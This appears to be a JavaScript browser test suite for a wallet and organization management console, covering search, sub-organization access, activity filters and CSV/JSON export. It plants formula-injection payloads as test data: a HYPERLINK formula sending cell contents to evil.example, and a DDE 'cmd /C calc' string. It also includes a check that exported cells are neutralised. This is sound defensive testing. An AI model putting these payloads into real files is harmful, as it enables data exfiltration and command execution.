// Finding things, sub-organizations, sorting, dates and exports, in an organization of its own: two people, one of whom has hostile
// names, and sub-organizations for three pages.
import assert from "node:assert/strict";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { launch, open, picture, sound, signIn as enter } from "./browser.mjs";
import { Client } from "./client.mjs";
import { controls } from "./controls.mjs";
import { apiUrl, base, credentials, organizationId, root, rootUserId, scratch } from "./setting.mjs";
import { makeOpenKey } from "./stamp.mjs";

const formula = `=HYPERLINK("https://evil.example/?x="&A1,"Click, please")`;
const notes = `+41 "quoted", and\r\na second line\nand 'a third'`;
const subs = []; // id, key and address of each sub-organization
let browser, page, complaints, home, bob, wallet, account, key, tag, policy, signed;

const parameters = (name, accounts) => ({ walletName: name, accounts });
const ethereum = { curve: "CURVE_SECP256K1", pathFormat: "PATH_FORMAT_BIP32", path: "m/44'/60'/0'/0/0", addressFormat: "ADDRESS_FORMAT_ETHEREUM" };
const solana = { curve: "CURVE_ED25519", pathFormat: "PATH_FORMAT_BIP32", path: "m/44'/501'/0'/0'", addressFormat: "ADDRESS_FORMAT_SOLANA" };
const apiKey = (publicKey) => ({ apiKeyName: "key", publicKey, curveType: "API_KEY_CURVE_P256" });

before(async () => {
  home = (await root.query("whoami")).organizationName;
  const { publicKey, privateKey } = await makeOpenKey();
  const made = await root.submit("create_users", "CREATE_USERS_V4", { users: [{ userName: formula, userEmail: "bob@example.com", userPhoneNumber: "+41446681800", apiKeys: [apiKey(publicKey)], authenticators: [], oauthProviders: [], userTags: [] }] });
  bob = { id: made.result.createUsersResult.userIds[0], publicKey, privateKey, activity: made };
  tag = (await root.submit("create_user_tag", "CREATE_USER_TAG", { userTagName: "Traders", userIds: [bob.id] })).result.createUserTagResult.userTagId;
  wallet = (await root.submit("create_wallet", "CREATE_WALLET", parameters("Treasury, main", [ethereum, solana]))).result.createWalletResult;
  await root.submit("create_wallet", "CREATE_WALLET", parameters("Empty <b>", []));
  ({ accounts: [account] } = await root.query("list_wallet_accounts", { walletId: wallet.walletId, paginationOptions: { limit: "1" } }));
  key = (await root.submit("create_private_keys", "CREATE_PRIVATE_KEYS_V2", { privateKeys: [{ privateKeyName: "Hot key", curve: "CURVE_SECP256K1", privateKeyTags: [], addressFormats: ["ADDRESS_FORMAT_ETHEREUM"] }] })).result.createPrivateKeysResultV2.privateKeys[0];
  policy = (await root.submit("create_policy", "CREATE_POLICY_V3", { policyName: "@SUM(1+1)*cmd|' /C calc'!A0", effect: "EFFECT_ALLOW", condition: "activity.action == 'SIGN'", consensus: `approvers.any(user, user.id == '${bob.id}')`, notes })).result.createPolicyResult.policyId;
  for (let i = 0; i < 60; i++) {
    const pair = await makeOpenKey();
    const { result } = await root.submit("create_sub_organization", "CREATE_SUB_ORGANIZATION_V8", {
      subOrganizationName: `Customer ${String(i).padStart(2, "0")}`, rootQuorumThreshold: 1, ...(i < 3 && { wallet: parameters(`Savings ${i}`, [ethereum, solana]) }),
      rootUsers: [{ userName: `Carol ${i}`, userEmail: `carol${i}@example.com`, userPhoneNumber: `+41446690${String(i).padStart(3, "0")}`, apiKeys: [apiKey(pair.publicKey)], authenticators: [], oauthProviders: [] }],
    });
    const { subOrganizationId: id, wallet: made } = result.createSubOrganizationResultV8;
    subs.push({ id, ...pair, name: `Customer ${String(i).padStart(2, "0")}`, addresses: made?.addresses });
  }
  signed = await root.submit("sign_raw_payload", "SIGN_RAW_PAYLOAD_V2", { signWith: account.address, payload: "ab".repeat(32), encoding: "PAYLOAD_ENCODING_HEXADECIMAL", hashFunction: "HASH_FUNCTION_NO_OP" });
  browser = await launch();
  ({ page, complaints } = await open(browser, { acceptDownloads: true }));
});
after(() => browser?.close());

const calm = () => { assert.deepEqual(complaints, []); };
const { heading, click, settled, go } = controls(() => page);
const column = async (n, at = page) => (await at.locator(`tbody tr td:nth-child(${n})`).allInnerTexts()).map((t) => t.trim());

async function signIn(at, organization, { publicKey, privateKey }) {
  const file = join(scratch, `key-${Math.random()}.json`);
  writeFileSync(file, JSON.stringify({ organizationId: organization, publicKey, privateKey }));
  await enter(at, base, file);
}

// found types a text into the box and waits until all has been searched.
async function found(text, at = page) {
  await at.locator("h1").first().waitFor();
  await at.keyboard.press("/");
  await at.keyboard.insertText(text);
  await at.keyboard.press("Enter");
  await at.getByText(`Results for ${text}.`).waitFor();
  await at.getByText(/^\s*Searched:/).waitFor();
}
const panelOf = (name, at = page) => at.getByRole("region", { name, exact: true });

// exported saves the list of the page and reads the file.
async function exported(format, at = page) {
  await click("Export list", at);
  await at.getByLabel("Format").selectOption(format);
  const [file] = await Promise.all([at.waitForEvent("download"), click("Export", at.getByRole("dialog"))]);
  await at.getByRole("dialog").waitFor({ state: "detached" });
  const text = readFileSync(await file.path(), "utf8");
  assert.match(file.suggestedFilename(), new RegExp(`^[a-z]+-\\d{4}-\\d\\d-\\d\\d\\.${format}$`));
  return format === "json" ? JSON.parse(text) : csv(text);
}

// csv reads RFC 4180 strictly into records.
function csv(text) {
  assert.equal(text[0], "\ufeff");
  const lines = [];
  let at = 1;
  while (at < text.length) {
    const line = [];
    for (;;) {
      let value = "";
      if (text[at] === '"') {
        for (at++; text[at] !== '"' || text[at + 1] === '"'; at++) {
          if (text[at] === '"') at++;
          value += text[at];
        }
        at++;
      } else {
        for (; text[at] !== "," && !text.startsWith("\r\n", at); at++) {
          assert(at < text.length && !'"\r\n'.includes(text[at]), `not quoted at ${at}`);
          value += text[at];
        }
      }
      assert(!/^[=+\-@\t\r]/.test(value), `a formula: ${value}`);
      line.push(value);
      if (text[at] !== ",") break;
      at++;
    }
    assert(text.startsWith("\r\n", at), `no end of line at ${at}`);
    at += 2;
    lines.push(line);
  }
  const [names, ...rows] = lines;
  return rows.map((row) => {
    assert.equal(row.length, names.length);
    return Object.fromEntries(names.map((name, i) => [name, row[i]]));
  });
}

test("signing in with a parent's key and a sub-organization's id says so", async () => {
  await signIn(page, subs[1].id, credentials.rootApiKey);
  await heading("Customer 01");
  await page.getByText(`This key belongs to ${home}, the parent of Customer 01.`).waitFor();
  await page.getByText(`You see Customer 01 as its parent does.`).waitFor();
  await settled();
  await picture(page, "sign-in-parent");
  await page.reload();
  await heading("Customer 01");
  assert.equal(await page.locator(".notice").count(), 0);
  calm();
  const theirs = await open(browser);
  await signIn(theirs.page, organizationId, subs[2]); // a sub-organization's key, and the parent's id
  await theirs.page.getByText("This key belongs to Customer 02, a sub-organization of the one that you named.").waitFor();
  await heading("Customer 02", theirs.page);
  assert.deepEqual(theirs.complaints, []);
  await theirs.context.close();
});

test("sub-organizations come by pages, are counted, sorted and searched", async () => {
  await go("overview", home);
  await page.getByRole("link", { name: "60 sub-organizations" }).click();
  await heading("Sub-organizations");
  await page.getByText("60 in all.").waitFor();
  assert.deepEqual(await column(1), subs.slice(0, 25).map((s) => s.name));
  await picture(page, "suborganizations");
  await click("Show more");
  await page.locator("tbody tr").nth(49).waitFor();
  await click("Show more");
  await page.locator("tbody tr").nth(59).waitFor();
  await page.getByRole("button", { name: "Show more" }).waitFor({ state: "detached" });
  assert.deepEqual(await column(1), subs.map((s) => s.name));
  await click("Name");
  await click("Name");
  assert.equal(await page.locator("th[aria-sort=descending]").innerText(), "Name");
  assert.deepEqual(await column(1), subs.map((s) => s.name).reverse());

  for (const [by, value, want] of [
    ["NAME", "Customer 07", [7]], ["NAME", "customer 07", []], ["NAME", "Customer", []], ["EMAIL", "CAROL8@example.com", [8]], ["PHONE_NUMBER", "+41 44 669 00 09", [9]], ["USERNAME", "Carol 10", [10]],
    ["WALLET_ACCOUNT_ADDRESS", subs[0].addresses[0].toLowerCase(), [0]], ["WALLET_ACCOUNT_ADDRESS", subs[2].addresses[1], [2]], ["PUBLIC_KEY", subs[11].publicKey, [11]], ["VERIFIED_EMAIL", "carol8@example.com", []], ["CREDENTIAL_ID", "AAAA", []],
  ]) {
    await page.getByLabel("Search by").selectOption(by);
    await page.getByLabel("The whole value").fill(value);
    await click("Search");
    await page.waitForURL(new RegExp(`q=`));
    await settled();
    if (want.length === 0) await page.getByText("No sub-organization has exactly this.").waitFor();
    else await page.getByRole("link", { name: subs[want[0]].name }).waitFor();
    assert.deepEqual((await column(1)), want.map((i) => subs[i].name), `${by} ${value}`);
  }
  await picture(page, "suborganizations-none");
  await page.getByRole("link", { name: "Clear" }).click();
  await page.locator("tbody tr").nth(24).waitFor();
  const rows = await exported("csv");
  assert.deepEqual(rows.map((r) => [r.organizationId, r.organizationName]), subs.map((s) => [s.id, s.name]));
  assert(rows.every((r) => Math.abs(Date.parse(r.createdAt) - Date.now()) < 3_600_000));
  const json = await exported("json");
  assert.deepEqual([json.complete, json.organizationId, json.suborganizations.map((o) => o.organizationId)], [true, organizationId, subs.map((s) => s.id)]);
  calm();
});

test("a parent sees users, addresses, policies and activities of a sub-organization, and changes nothing", async () => {
  const theirs = new Client({ apiUrl, organizationId: subs[0].id, ...subs[0] });
  await theirs.submit("create_policy", "CREATE_POLICY_V3", { policyName: "Theirs", effect: "EFFECT_DENY", condition: "activity.action == 'EXPORT'", consensus: "", notes: "No exports." });
  await go("suborganizations", "Sub-organizations");
  await page.locator("tbody tr").first().locator("td").nth(1).click(); // anywhere in the row
  await heading("Customer 00");
  await settled();
  for (const text of ["carol0@example.com", subs[0].addresses[0], subs[0].addresses[1], "Savings 0", "No exports.", "activity.action == 'EXPORT'", "One member, who decides alone.", "Carol 0"]) await page.getByText(text).first().waitFor();
  for (const name of ["Edit", "Delete", "New policy", "Add accounts", "Approve"]) assert.equal(await page.getByRole("button", { name }).count(), 0, name);
  await picture(page, "suborganization");
  await panelOf("Activities").getByRole("link", { name: "Create a policy" }).click();
  await heading("Create a policy");
  await page.getByRole("region", { name: "Request" }).locator("dl > div", { hasText: "Policy name" }).getByText("Theirs", { exact: true }).waitFor();
  await picture(page, "suborganization-activity");
  // A click with a key pressed, and one that ends a selection, do not open the row.
  await go("suborganizations", "Sub-organizations");
  await page.keyboard.down("Control");
  await page.locator("tbody tr").first().locator("td").nth(1).click();
  await page.keyboard.up("Control");
  await page.locator("tbody tr td time").nth(1).selectText();
  await page.locator("tbody tr").nth(1).locator("td").nth(1).dispatchEvent("click");
  assert.equal(new URL(page.url()).hash, "#/suborganizations");
  const [height] = await page.locator("tbody tr .copyable code").evaluateAll((all) => all.map((c) => c.getClientRects().length));
  assert.equal(height, 1);
  calm();
});

test("an organization that is not one's own cannot be read, and that does not sign out", async () => {
  const { organizationId: other } = JSON.parse(readFileSync(process.env.CLOISTER_SIM_CREDENTIALS));
  for (const [id, message] of [[other, "You cannot read this organization"], ["00000000-0000-4000-8000-000000000000", "There is no organization with this id."]]) {
    await page.goto(`${base}#/suborganizations/${id}`);
    await page.getByRole("alert").filter({ hasText: message }).waitFor();
  }
  await picture(page, "suborganization-refused");
  await page.goto(`${base}#/suborganizations/${organizationId}`); // its own
  await page.waitForURL("**/#/overview");
  await go("users", "Users");
  // A user of a sub-organization sees that one, and neither its parent nor the others.
  const theirs = await open(browser);
  await signIn(theirs.page, subs[3].id, subs[3]);
  await heading("Customer 03", theirs.page);
  await go("suborganizations", "Sub-organizations", theirs.page);
  await theirs.page.getByText("A sub-organization has none itself.").waitFor();
  for (const id of [organizationId, subs[4].id]) {
    await theirs.page.goto(`${base}#/suborganizations/${id}`);
    await theirs.page.getByRole("alert").filter({ hasText: "You cannot read this organization" }).waitFor();
  }
  for (const text of [account.address, "carol4@example.com", "Traders", subs[4].id, signed.id]) {
    await found(text, theirs.page);
    await theirs.page.getByText("Nothing was found.").waitFor();
  }
  assert.deepEqual(theirs.complaints, []);
  await theirs.context.close();
  calm();
});

test("the box finds each kind of thing", async () => {
  await go("overview", home);
  for (const [text, panel, link, href] of [
    ["HYPERLINK", "Users", formula, `#/users/${bob.id}`], ["BOB@example", "Users", formula, `#/users/${bob.id}`], ["+41 44 668 18 00", "Users", formula, `#/users/${bob.id}`], [bob.id, "Users", formula, `#/users/${bob.id}`],
    [bob.publicKey, "Users", formula, `#/users/${bob.id}`], ["treasury", "Wallets", "Treasury, main", `#/wallets/${wallet.walletId}`], [wallet.walletId, "Wallets", "Treasury, main", `#/wallets/${wallet.walletId}`],
    [wallet.addresses[0], "Accounts", "Treasury, main", `#/wallets/${wallet.walletId}`], [wallet.addresses[0].toLowerCase(), "Accounts", "Treasury, main", `#/wallets/${wallet.walletId}`], [wallet.addresses[1], "Accounts", "Treasury, main", `#/wallets/${wallet.walletId}`],
    [account.walletAccountId, "Accounts", "Treasury, main", `#/wallets/${wallet.walletId}`], ["calc", "Policies", "@SUM(1+1)*cmd|' /C calc'!A0", `#/policies/${policy}`], [bob.id, "Policies", "@SUM(1+1)*cmd|' /C calc'!A0", `#/policies/${policy}`],
    ["Traders", "Tags", "Traders", `#/find?q=${tag}`], [tag, "Users", formula, `#/users/${bob.id}`], [subs[5].id, "Sub-organizations", "Customer 05", `#/suborganizations/${subs[5].id}`], ["carol6@example.com", "Sub-organizations", "Customer 06", `#/suborganizations/${subs[6].id}`],
    ["Customer 12", "Sub-organizations", "Customer 12", `#/suborganizations/${subs[12].id}`], ["Carol 13", "Sub-organizations", "Customer 13", `#/suborganizations/${subs[13].id}`], ["+41446690014", "Sub-organizations", "Customer 14", `#/suborganizations/${subs[14].id}`],
    [subs[15].publicKey, "Sub-organizations", "Customer 15", `#/suborganizations/${subs[15].id}`], [subs[1].addresses[1], "Sub-organizations", "Customer 01", `#/suborganizations/${subs[1].id}`],
  ]) {
    await found(text);
    assert.equal(await panelOf(panel).getByRole("link", { name: link, exact: true }).getAttribute("href"), href, `${text} in ${panel}`);
  }
  await found(key.addresses[0].address);
  await panelOf("Private keys").getByText("Hot key").waitFor();
  await found(bob.id);
  await picture(page, "find");
  // A part of an address is enough, and so is what a page shows of an address or an id.
  const [whole] = wallet.addresses;
  for (const part of [whole.slice(0, 8), whole.slice(-6).toUpperCase(), `${whole.slice(0, 8)}…${whole.slice(-6)}`, `${whole.slice(0, 8)}...${whole.slice(-6)}`, whole.slice(0, 30)]) {
    await found(part);
    await panelOf("Accounts").getByRole("link", { name: "Treasury, main", exact: true }).first().waitFor();
  }
  await picture(page, "find-part");
  await found(`${signed.id.slice(0, 8)}…${signed.id.slice(-6)}`);
  assert.equal(await panelOf("Activities").getByRole("link").getAttribute("href"), `#/activities/${signed.id}`);
  await found(`${bob.id.slice(0, 8)}…${bob.id.slice(-6)}`);
  await panelOf("Users").getByRole("link").first().waitFor();
  await found("0x000000…000000");
  await page.getByText("Nothing was found.").waitFor();
  await found("nothing has this name");
  await page.getByText("Nothing was found.").waitFor();
  await page.getByText("Not searched: activities, which are found by id or fingerprint").waitFor();
  await picture(page, "find-nothing");
  await panelOf("Users").waitFor({ state: "detached" });
  // Activities open at once.
  for (const text of [signed.id, signed.fingerprint, signed.fingerprint.toUpperCase().replace("SHA256", "sha256"), signed.fingerprint.slice(7)]) {
    await go("overview", home);
    await page.keyboard.press("/");
    assert.equal(await page.evaluate(() => document.activeElement.getAttribute("aria-label")), "Find");
    await page.keyboard.insertText(text);
    await page.keyboard.press("Enter");
    await page.waitForURL(`**/#/activities/${signed.id}`);
    await heading(/^Sign /);
  }
  await found(`sha256:${"0".repeat(64)}`);
  await page.getByText("No activity has this fingerprint.").or(page.getByText("Nothing was found.")).first().waitFor();
  // The key types where text is typed.
  await go("activities", "Activities");
  await page.getByLabel("User (name or id)").press("/");
  assert.equal(await page.getByLabel("User (name or id)").inputValue(), "/");
  await go(`policies/${policy}`, "Policy");
  await picture(page, "policy-one");
  // On a phone the box is in the menu.
  await page.setViewportSize({ width: 390, height: 844 });
  await go("find", "Find");
  await page.keyboard.press("/");
  assert.equal(await page.getByRole("button", { name: "Menu" }).getAttribute("aria-expanded"), "true");
  await page.keyboard.insertText("treasury");
  await page.keyboard.press("Enter");
  await panelOf("Wallets").getByRole("link", { name: "Treasury, main" }).waitFor();
  await page.setViewportSize({ width: 1280, height: 860 });
  calm();
});

test("activities are filtered by user and date, sorted, and their types are complete", async () => {
  const bobs = new Client({ apiUrl, organizationId, ...bob });
  const asked = await bobs.send("/public/v1/submit/create_wallet", { type: "ACTIVITY_TYPE_CREATE_WALLET", timestampMs: String(Date.now()), parameters: parameters("Not allowed", []) });
  assert.notEqual(asked.status, 200);
  await go("activities", "Activities");
  assert.equal(await page.locator("tbody tr").count(), 25);
  assert.equal(await page.locator("th[aria-sort=descending]").innerText(), "Last change");
  await picture(page, "activities-filters");
  for (const [by, name] of [["HYPERLINK", "an attempt"], [bob.id.toUpperCase(), "an attempt"]]) {
    await page.getByLabel("User (name or id)").fill(by);
    await page.keyboard.press("Enter");
    await page.waitForURL(/by=/);
    await settled();
    await page.getByText(/\d+ activities were read/).waitFor();
    assert.deepEqual(await column(3), [formula], name);
    await page.getByRole("link", { name: "Clear" }).click();
    await page.locator("tbody tr").nth(24).waitFor();
  }
  const days = new Intl.DateTimeFormat("sv-SE", { timeZone: "Europe/Zurich" }); // where the browser is
  const day = (later) => days.format(Date.now() + later * 86_400_000);
  for (const [from, to, some] of [[-1, 1, true], [0, null, true], [1, null, false], [null, -2, false], [null, 0, true], [2, 1, false]]) {
    const search = new URLSearchParams({ ...(from !== null && { from: day(from) }), ...(to !== null && { to: day(to) }) });
    await go(`activities?${search}`, "Activities");
    if (some) await page.locator("tbody tr").nth(24).waitFor();
    else await page.getByText("No activity matches.").waitFor();
  }
  await page.getByLabel("Changed from").fill(day(0));
  await click("Filter");
  await page.waitForURL(/from=/);
  // The enclave leaves out what is later: of sixty, those until the thirtieth was made.
  const middle = (await root.query("list_suborgs", { includeDetails: true, paginationOptions: { limit: "30" } })).organizations.at(-1).createdAt;
  const until = String(Number(middle.seconds) * 1000 + 999);
  const early = (await root.query("list_activities", { untilMs: until, paginationOptions: { limit: "100" } })).activities;
  const all = (await root.query("list_activities", { paginationOptions: { limit: "100" } })).activities;
  assert.deepEqual(early.map((a) => a.id), all.filter((a) => Number(a.updatedAt.seconds) <= Number(middle.seconds)).map((a) => a.id));
  assert(early.length >= 30 && early.length < all.length);
  const [second] = (await root.query("list_activities", { untilMs: until, paginationOptions: { limit: "1", before: early[0].id } })).activities;
  assert.equal(second.id, early[1].id);
  assert.deepEqual((await root.query("list_activities", { untilMs: "0" })).activities, []);
  // Several versions of a type are one choice.
  await go("activities", "Activities");
  const types = await page.getByLabel("All types").locator("option").allInnerTexts();
  assert.equal(new Set(types).size, types.length);
  for (const type of ["Send a code", "Check a code", "Create a sub-organization", "Export the history"]) assert(types.includes(type), type);
  await page.getByLabel("All types").selectOption({ label: "Create a sub-organization" });
  await page.waitForURL(/type=CREATE_SUB_ORGANIZATION/);
  await settled();
  await click("Show older");
  await page.locator("tbody tr").nth(49).waitFor();
  await click("Show older");
  await page.locator("tbody tr").nth(59).waitFor();
  await click("Created");
  const times = (await page.locator("tbody tr td:nth-child(4) time").evaluateAll((all) => all.map((t) => t.dateTime)));
  assert.deepEqual(times, [...times].sort());
  assert.equal(await page.locator("th[aria-sort=ascending]").innerText(), "Created");
  assert.equal(await page.evaluate(() => document.activeElement.textContent), "Created");
  await sound(page, "activities, sorted");
  calm();
});

test("lists are exported whole, and no cell is a formula", async () => {
  await go("users", "Users");
  await click("Export list");
  await picture(page, "export");
  await page.keyboard.press("Escape");
  const users = await exported("csv");
  const row = users.find((u) => u.userId === bob.id);
  assert.deepEqual([row.userName, row.userEmail, row.userPhoneNumber, row.userTags], [`'${formula}`, "bob@example.com", "'+41446681800", JSON.stringify([tag])]);
  assert.equal(JSON.parse(row.apiKeys)[0].publicKey, bob.publicKey);
  assert.equal(users.length, 2);
  assert.deepEqual((await exported("json")).users, (await root.query("list_users")).users);

  await go("policies", "Policies");
  const [written] = await exported("csv");
  assert.deepEqual([written.policyName, written.notes, written.consensus], ["'@SUM(1+1)*cmd|' /C calc'!A0", `'${notes}`, `approvers.any(user, user.id == '${bob.id}')`]);
  assert.deepEqual((await exported("json")).policies, (await root.query("list_policies")).policies);

  await go("wallets", "Wallets");
  const wallets = await exported("csv");
  assert.deepEqual(wallets.map((w) => [w.walletName, w.address]), [["Treasury, main", wallet.addresses[0]], ["Treasury, main", wallet.addresses[1]], ["Empty <b>", ""]]);
  const json = (await exported("json")).wallets;
  assert.deepEqual(json.map((w) => w.accounts.length), [2, 0]);

  await go("activities", "Activities");
  const lines = await exported("csv");
  const all = (await exported("json")).activities;
  assert.equal(lines.length, all.length);
  assert(all.length >= 67, `${all.length} activities`);
  const line = lines.find((l) => l.id === signed.id);
  assert.deepEqual([line.type, line.status, line.shownAs, line.fingerprint, line.requestedById, line.approvals, line.rejections], ["ACTIVITY_TYPE_SIGN_RAW_PAYLOAD_V2", "ACTIVITY_STATUS_COMPLETED", "Completed", signed.fingerprint, rootUserId, "1", "0"]);
  assert.deepEqual(JSON.parse(line.intent), signed.intent);
  await go("activities?type=CREATE_POLICY", "Activities");
  const filtered = await exported("csv");
  assert.deepEqual(filtered.map((l) => l.type), ["ACTIVITY_TYPE_CREATE_POLICY_V3"]);
  assert(filtered[0].intent.includes(JSON.stringify(notes).slice(1, -1)));
  calm();
});

test("an export shows how far it is, can be cancelled, and says when it was cut", async () => {
  await go("activities", "Activities");
  // What is answered depends on what is asked and not on how many came before: the page asks for what waits now and then, and repeats what
  // was not answered.
  const polled = (route) => "filterByStatus" in route.request().postDataJSON();
  const saved = [];
  page.on("download", (file) => saved.push(file));
  let release;
  let cancelled = false;
  const held = new Promise((done) => { release = done; });
  await page.route("**/list_activities", async (route) => {
    if (polled(route)) return route.continue();
    const { before } = route.request().postDataJSON().paginationOptions;
    if (!before) return route.fulfill({ json: { activities: [signed] } });
    if (cancelled) return route.fulfill({ status: 503, json: { code: 14, message: "store is away" } });
    await held;
    return route.fulfill({ json: { activities: [] } });
  });
  await click("Export list");
  await click("Export", page.getByRole("dialog"));
  await page.getByText("1 so far…").waitFor();
  await click("Cancel", page.getByRole("dialog"));
  await page.getByRole("dialog").waitFor({ state: "detached" });
  cancelled = true;
  const last = page.waitForResponse((r) => r.url().endsWith("/list_activities") && "before" in r.request().postDataJSON().paginationOptions);
  release();
  await last; // the end of the list: without the cancelling it would have been saved
  await click("Export list");
  const [file] = await Promise.all([page.waitForEvent("download"), click("Export", page.getByRole("dialog"))]);
  await page.getByRole("alert").filter({ hasText: "The file is incomplete: it has the first row." }).waitFor();
  assert.match(file.suggestedFilename(), /-incomplete\.csv$/);
  assert.deepEqual(csv(readFileSync(await file.path(), "utf8")).map((l) => l.id), [signed.id]);
  await picture(page, "export-cut");
  await page.unroute("**/list_activities");
  await page.keyboard.press("Escape");
  // A page that is refused for its pace is asked for again.
  let asked = 0;
  await page.route("**/list_activities", (route) => (polled(route) || asked++ ? route.continue() : route.fulfill({ status: 429, json: { code: 8, message: "too many requests" } })));
  assert((await exported("json")).activities.length >= 67);
  assert(asked > 1);
  assert.equal(saved.length, 2); // and none of the cancelled one
  await page.unroute("**/list_activities");
  calm();
});
